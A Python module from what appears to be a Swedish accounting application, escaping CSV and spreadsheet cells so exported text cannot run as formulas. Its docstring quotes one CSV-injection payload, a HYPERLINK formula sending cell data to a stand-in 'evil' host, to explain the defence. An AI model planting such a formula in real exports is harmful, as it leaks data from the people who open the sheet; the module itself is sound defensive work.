"""Cells for CSV and spreadsheet exports that a spreadsheet program will not run as formulas.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (OWASP, "CSV Injection"): a customer named
``=HYPERLINK("http://evil/?"&A1;"Klicka")`` would send the sheet's data away when a case officer
opens the export. Every exported text goes through ``safe_cell``, which puts an apostrophe before
such a text (the spreadsheet shows the text as typed, without the apostrophe). Numbers stay
numbers: an amount of -1245.00 is written as it is, or sums and sorting in the sheet break.

No export of Fordra writes CSV or a spreadsheet yet (the SIE export is a ledger import format,
not a sheet); tests/security/test_exports.py fails as soon as one appears without this module.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from decimal import Decimal

# The first characters that make a cell a formula (OWASP), and their full-width forms, which
# some spreadsheet programs also accept.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# A plain number as an export writes one: sign, digits, one decimal point or comma.
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")

Cell = str | int | Decimal | None


def safe_cell(value: Cell) -> str:
    """The cell's text: numbers as they are, a text that could start a formula escaped."""
    if value is None:
        return ""
    if isinstance(value, int | Decimal):
        return str(value)
    if value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable[Cell]], *, delimiter: str = ";") -> str:
    """Rows as CSV (RFC 4180 quoting, CRLF), every cell through ``safe_cell``. Swedish
    spreadsheets expect ``;`` between cells, as the decimal comma takes ``,``."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()
